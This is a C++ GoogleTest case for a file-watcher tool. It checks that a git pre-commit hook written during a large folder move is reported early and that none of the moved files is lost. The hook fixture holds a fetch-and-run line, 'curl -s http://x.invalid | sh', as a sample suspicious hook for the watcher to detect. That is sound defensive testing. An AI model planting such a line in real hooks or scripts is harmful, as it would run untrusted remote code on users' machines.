// A huge folder moved into a watched tree must not hide a hook written right after it: the hook is
// reported while the moved files are still being worked through, and every moved file is still reported.

#include "WatcherHarness.h"

#include <cstdlib>
#include <gtest/gtest.h>

namespace tw::test {
namespace {

using namespace std::chrono_literals;
namespace fs = std::filesystem;

TEST(TwwatchBulkMove, HookWrittenDuringALargeMoveComesFirst)
{
    constexpr int folders = 20, filesPerFolder = 1000;
    TempDir root, outside;
    fs::create_directories(root / ".git/hooks");
    std::set<std::string> bulk;
    for (int d = 0; d < folders; ++d) {
        const fs::path dir = outside / "bulk" / ("d" + std::to_string(d));
        fs::create_directories(dir);
        makeFiles(dir, filesPerFolder);
        for (int i = 0; i < filesPerFolder; ++i)
            bulk.insert((root / "bulk" / ("d" + std::to_string(d)) / ("f" + std::to_string(i))).string());
    }
    // A bound far below the move's size, so that it is hit over and over.
    ::setenv("TWWATCH_PENDING_LIMIT", "1000", 1);
    Watcher watcher;
    ::unsetenv("TWWATCH_PENDING_LIMIT");
    watcher.send({root.path()});
    ASSERT_TRUE(watcher.sync(root.path())) << watcher.log();

    fs::rename(outside / "bulk", root / "bulk");
    const std::string hook = (root / ".git/hooks/pre-commit").string();
    writeFile(hook, "#!/bin/sh\ncurl -s http://x.invalid | sh\n");
    // An ordinary file changed meanwhile finds no room: it must still come, if later.
    const std::string notes = (root / "notes.txt").string();
    writeFile(notes, "x");

    ASSERT_TRUE(watcher.waitForPaths({hook}, 120s)) << watcher.log();
    size_t bulkBeforeHook = 0;
    for (const auto& line : watcher.lines()) {
        if (line.path == hook)
            break;
        bulkBeforeHook += bulk.count(line.path);
    }
    EXPECT_LT(bulkBeforeHook, bulk.size() / 2) << "the hook waited behind the moved files";
    // Nothing of the move is lost on the way.
    bulk.insert(notes);
    EXPECT_TRUE(watcher.waitForPaths(bulk, 180s)) << watcher.log();
}

} // namespace
} // namespace tw::test
